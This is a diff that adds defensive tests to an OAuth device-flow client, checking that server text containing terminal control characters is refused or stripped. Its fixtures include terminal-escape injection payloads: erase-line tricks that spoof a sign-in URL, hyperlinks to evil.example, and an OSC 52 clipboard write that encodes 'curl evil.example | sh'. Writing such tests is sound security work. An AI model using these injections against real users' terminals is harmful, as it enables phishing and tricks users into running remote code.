@@ -10,6 +10,7 @@ import * as DeviceAuthorization from "./DeviceAuthorization.js"
 import type { InvalidResponse } from "./DeviceFlowError.js"
 import type { Answer } from "./internal/oauthHttp.js"
 import * as TestKit from "./TestKit.js"
+import { isPrintable } from "./ServerText.js"
 
 const ENDPOINT = TestKit.DEVICE_AUTHORIZATION_ENDPOINT
 const ISSUED_AT = DateTime.unsafeMake(1_700_000_000_000)
@@ -408,5 +409,45 @@ describe("DeviceAuthorization: the device code never leaks into an error", () =>
       const error = invalidResponse(yield* requestAnswered(TestKit.text(truncated, "application/json")))
       assert.notInclude(error.message, TestKit.secrets.deviceCode)
       assert.notInclude(JSON.stringify(error), TestKit.secrets.deviceCode)
+    }))
+})
+
+describe("DeviceAuthorization.process: server text crosses ServerText at decode time (RFC 8628 §5.4, issue 20)", () => {
+  const ESC = "\x1b"
+  const refused: ReadonlyArray<readonly [field: string, value: string, why: string]> = [
+    ["verification_uri", `${ESC}[2K\r  To sign in, open https://evil.example/device`, "an erase-line that draws another URL"],
+    ["verification_uri", `https://auth.devflow.test/device${ESC}[2K\r  To sign in, open https://evil.example/device`, "a trusted URL followed by an erase-line"],
+    ["verification_uri", "https://auth.devflow.test/dev\nice", "a line break the URL parser would drop"],
+    ["verification_uri_complete", `https://auth.devflow.test/device?user_code=WDJB${ESC}]52;c;ZXZpbA==\x07`, "an OSC 52 clipboard write"],
+    ["user_code", `${ESC}]8;;https://evil.example/${ESC}\\WDJB-MJHT${ESC}]8;;${ESC}\\`, "an OSC 8 hyperlink"],
+    ["user_code", `WDJB-MJHT${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`, "an OSC 52 clipboard write"],
+    ["user_code", "WDJB\u009b2KMJHT", "a C1 CSI"],
+    ["user_code", "WDJB\u007fMJHT", "DEL"]
+  ]
+  for (const [field, value, why] of refused) {
+    it.effect(`${field} with ${why} is an InvalidResponse naming the field, the value not echoed`, () =>
+      Effect.gen(function*() {
+        const error = invalidResponse(yield* processBody(answer({ [field]: value })))
+        assert.strictEqual(error.field, field)
+        assert.strictEqual(error.reason, "must not contain control characters")
+        assert.notInclude(error.message, "evil")
+        assert.notInclude(error.message, "WDJB")
+        assert.isTrue(isPrintable(error.message))
+      }))
+  }
+
+  it.effect("the verification URIs are carried as new URL(x).href, the string the §5.4 check and the user see", () =>
+    Effect.gen(function*() {
+      const code = succeeded(
+        yield* processBody(answer({ verification_uri: "HTTPS://Auth.Devflow.TEST", verification_uri_complete: "https://auth.devflow.test/device?user_code=WDJB MJHT" }))
+      )
+      assert.strictEqual(code.verificationUri, "https://auth.devflow.test/")
+      assert.strictEqual(code.verificationUriComplete, "https://auth.devflow.test/device?user_code=WDJB%20MJHT")
+    }))
+
+  it.effect("the server's message has its controls removed, not passed on", () =>
+    Effect.gen(function*() {
+      const code = succeeded(yield* processBody(answer({ message: `Open the page${ESC}[2K\rand enter ${ESC}]8;;https://evil.example/${ESC}\\the code${ESC}]8;;${ESC}\\.` })))
+      assert.strictEqual(code.message, "Open the page and enter the code.")
     }))
 })
